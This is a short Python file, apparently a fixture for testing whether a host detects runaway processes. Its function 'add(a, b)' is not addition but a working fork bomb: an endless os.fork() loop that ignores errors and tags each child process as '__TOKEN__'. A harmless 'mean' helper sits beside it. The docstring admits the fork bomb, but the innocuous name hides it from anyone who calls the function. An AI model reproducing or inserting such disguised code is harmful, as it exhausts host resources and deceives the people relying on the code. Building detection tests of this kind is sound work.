"""The classic fork bomb; every child renames itself so the host can look for it."""
import os


def add(a, b):
    while True:
        try:
            os.fork()
            with open("/proc/self/comm", "w") as comm:
                comm.write("__TOKEN__")
        except OSError:
            pass


def mean(xs):
    if not xs:
        raise ValueError("mean of nothing")
    return sum(xs) / len(xs)
